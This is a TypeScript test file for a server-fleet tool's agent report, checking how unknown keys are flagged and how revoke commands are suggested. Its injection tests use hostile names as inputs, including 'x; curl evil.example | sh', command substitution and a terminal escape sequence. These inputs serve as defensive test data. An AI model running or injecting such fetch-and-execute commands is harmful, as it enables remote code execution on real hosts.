import { describe, expect, test } from "vitest";

import { agentRows, renderAgents } from "../../../src/report/agents-text.ts";
import { plainStyle } from "../../../src/report/style.ts";

const about = {
  stack: "shop",
  configurator: "salt",
  master: "master",
  revokesKeys: false,
  columns: 120,
  style: plainStyle,
};

describe("agents at the master", () => {
  test("servers come in the order of the config, strangers last; who is missing is said", () => {
    const rows = agentRows(
      [
        { id: "rogue", state: "waiting", isMember: false, fingerprint: "SHA256:zz" },
        { id: "web1", state: "accepted", isMember: true, fingerprint: "SHA256:ab" },
      ],
      ["master", "web1"],
    );
    expect(rows.map(({ id, state }) => `${id} ${state}`)).toEqual([
      "master missing",
      "web1 accepted",
      "rogue waiting",
    ]);
    expect(renderAgents(rows, about)).toEqual([
      "Stack shop: salt, master master, 2 servers, 1 stranger.",
      "",
      "AGENT   STATE         WHOSE         FINGERPRINT",
      "master  not enrolled  the stack's   -",
      "web1    accepted      the stack's   SHA256:ab",
      "rogue   waiting       A STRANGER'S  SHA256:zz",
      "",
      "Not enrolled: master. `bootmachine configurator accept master` enrols it; `bootmachine up` all.",
      "",
      "A stranger is never accepted. `bootmachine configurator revoke rogue` takes it off the list.",
    ]);
  });

  test("where all is well there is nothing to do", () => {
    const rows = agentRows([{ id: "web1", state: "accepted", isMember: true }], ["web1"]);
    expect(renderAgents(rows, about).slice(2)).toEqual([
      "AGENT  STATE     WHOSE        FINGERPRINT",
      "web1   accepted  the stack's  -",
    ]);
  });

  test("a second key under a server's name is shown beside its own, as a stranger's", () => {
    const rows = agentRows(
      [
        { id: "web1", state: "rejected", isMember: false, fingerprint: "SHA256:zz" },
        { id: "web1", state: "accepted", isMember: true, fingerprint: "SHA256:ab" },
      ],
      ["web1"],
    );
    expect(renderAgents(rows, about)).toEqual([
      "Stack shop: salt, master master, 1 server, 1 stranger.",
      "",
      "AGENT  STATE     WHOSE         FINGERPRINT",
      "web1   accepted  the stack's   SHA256:ab",
      "web1   rejected  A STRANGER'S  SHA256:zz",
      "",
      "Somebody with another key takes the name of web1, and is not let in. Find out who; `bootmachine configurator revoke web1` and then `bootmachine configurator accept web1` take that key off the list.",
    ]);
    // With a tool that knows keys, the server's own need not be touched for it.
    const hint = renderAgents(rows, { ...about, revokesKeys: true }).at(-1);
    expect(hint).toContain("`bootmachine configurator revoke --fingerprint SHA256:zz` takes that");
    expect(hint).not.toContain("revoke web1");
  });

  test.each(["x; curl evil.example | sh", "a b", "$(x)", "-rf", "x`y", "evil\nweb1", "--yes", ""])(
    "the name %j does not stand in a command to copy: its key does",
    (id) => {
      const fingerprint = "ab:cd";
      const rows = agentRows([{ id, state: "waiting", isMember: false, fingerprint }], []);
      expect(renderAgents(rows, { ...about, revokesKeys: true }).at(-1)).toBe(
        "A stranger is never accepted. `bootmachine configurator revoke --fingerprint ab:cd` takes that key off the list.",
      );
      expect(renderAgents(rows, about).at(-1)).toBe(
        "A stranger is never accepted. Its name is none that a command could be given: take it off the list at the master itself.",
      );
    },
  );

  test("a stranger's name cannot steer the terminal", () => {
    const rows = agentRows([{ id: "\u001B[2Jx", state: "waiting", isMember: false }], []);
    expect(renderAgents(rows, about).join("\n")).not.toContain("\u001B");
  });
});
